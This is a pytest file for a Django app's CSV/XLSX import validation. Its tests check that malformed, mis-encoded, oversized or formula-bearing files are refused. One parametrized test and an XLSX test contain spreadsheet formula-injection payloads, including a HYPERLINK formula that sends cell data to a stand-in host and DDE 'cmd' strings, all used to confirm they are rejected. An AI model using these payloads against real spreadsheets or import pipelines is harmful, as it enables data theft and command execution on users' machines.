"""A bad file gets a clear message on the upload page and changes nothing: every table's count is the same."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from candidly.lib import tabular
from tests.dataio.support import csv_bytes, row_counts, upload
from tests.factories import CandidateFactory

pytestmark = pytest.mark.django_db


def refused(client, kind: str, content: bytes, name: str = "people.csv") -> str:
    """Upload ``content``; assert the page shows the form again and nothing changed; return its text."""
    CandidateFactory(email="already@mail.test")
    before = row_counts()
    response = upload(client, kind, content, name=name)
    assert response.status_code == 200
    assert row_counts() == before
    return response.content.decode()


def _xlsx_with(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_import_missing_and_unknown_columns_are_named(admin_client_):
    page = refused(
        admin_client_,
        "candidates",
        csv_bytes(["Full name", "email", "shoe size"], [["Ann", "a@x.test", "5"]]),
    )
    assert "Missing column: name. Unknown columns: full_name, shoe_size." in page
    assert "Needed: name, email; optional: phone, time_zone," in page


def test_import_contacts_without_company_column_says_so(admin_client_):
    page = refused(admin_client_, "contacts", csv_bytes(["name", "email"], [["Ann", "a@x.test"]]))
    assert "Missing column: company." in page


def test_import_latin1_file_is_refused_with_how_to_save_as_utf8(admin_client_):
    content = "name,email\nRenée Dupré,renee@mail.test\n".encode("cp1252")
    page = refused(admin_client_, "candidates", content)
    assert "This file is not UTF-8 text (byte 0xe9 at position 14" in page
    assert "CSV UTF-8 (Comma delimited)" in page


def test_import_utf16_file_is_refused(admin_client_):
    page = refused(admin_client_, "candidates", "name,email\nAnn,a@x.test\n".encode("utf-16"))
    assert "This file is UTF-16" in page


def test_import_empty_file_is_refused(admin_client_):
    assert "The file is empty." in refused(admin_client_, "candidates", b"\n \r\n")


def test_import_header_only_is_refused(admin_client_):
    assert "The file has a header but no rows." in refused(admin_client_, "candidates", b"name,email\n")


def test_import_too_large_is_refused(admin_client_, monkeypatch):
    monkeypatch.setattr(tabular, "MAX_BYTES", 100)
    monkeypatch.setattr("candidly.dataio.views.MAX_BYTES", 100)
    content = csv_bytes(["name", "email"], [[f"Person {n}", f"p{n}@mail.test"] for n in range(20)])
    assert "The file is too large: the limit is 0 MB." in refused(admin_client_, "candidates", content)


def test_import_too_many_rows_is_refused(admin_client_, monkeypatch):
    monkeypatch.setattr(tabular, "MAX_ROWS", 3)
    content = csv_bytes(["name", "email"], [[f"Person {n}", f"p{n}@mail.test"] for n in range(4)])
    assert "The file has 4 rows: the limit is 3. Split it." in refused(admin_client_, "candidates", content)


def test_import_xlsx_that_is_not_xlsx_is_refused(admin_client_):
    content = csv_bytes(["name", "email"], [["Ann", "a@x.test"]])
    page = refused(admin_client_, "candidates", content, name="people.xlsx")
    assert "This .xlsx file is not an Excel workbook." in page


def test_import_damaged_xlsx_is_refused(admin_client_):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    page = refused(admin_client_, "candidates", out.getvalue(), name="people.xlsx")
    assert "could not be read as an Excel workbook" in page


def test_import_other_file_type_is_refused(admin_client_):
    assert "Upload a .csv or .xlsx file." in refused(
        admin_client_, "candidates", b"%PDF-1.4", name="people.pdf"
    )


def test_import_ragged_row_is_refused(admin_client_):
    page = refused(admin_client_, "candidates", b"name,email\nAnn,a@x.test,extra\n")
    assert "Row 2 has more cells than the header has columns." in page


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.test?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "'=HYPERLINK(1)",
    ],
)
def test_import_formula_cells_are_refused(admin_client_, cell):
    content = csv_bytes(["name", "email", "notes"], [["Ann", "a@x.test", "fine"], ["Bo", "b@x.test", cell]])
    page = refused(admin_client_, "candidates", content)
    assert "Some cells look like spreadsheet formulas (row 3, notes:" in page
    assert "Candidly does not import formulas" in page


def test_import_xlsx_formula_is_refused(admin_client_):
    content = _xlsx_with([["name", "email"], ["Ann", '=HYPERLINK("http://evil.test","Ann")']])
    page = refused(admin_client_, "candidates", content, name="people.xlsx")
    assert "Some cells look like spreadsheet formulas (row 2, email:" in page


def test_import_phone_numbers_numbers_and_escaped_phones_are_not_formulas():
    content = b"name,phone,notes\nAnn,+44 20 7946 0958,-3\nBo,'+1 (415) 555-0123,ok\n"

    table = tabular.read_table(content, "people.csv")

    assert table.rows == [["Ann", "+44 20 7946 0958", "-3"], ["Bo", "+1 (415) 555-0123", "ok"]]


def test_import_semicolon_separated_csv_is_read():
    table = tabular.read_table(b"Name;E-mail\nAnn;a@x.test\n", "people.csv")

    assert (table.header, table.rows) == (["name", "e_mail"], [["Ann", "a@x.test"]])


def test_import_duplicate_columns_are_refused(admin_client_):
    assert "These columns appear twice: email." in refused(
        admin_client_, "candidates", b"name,email,Email\nA,a@x.test,b@x.test\n"
    )
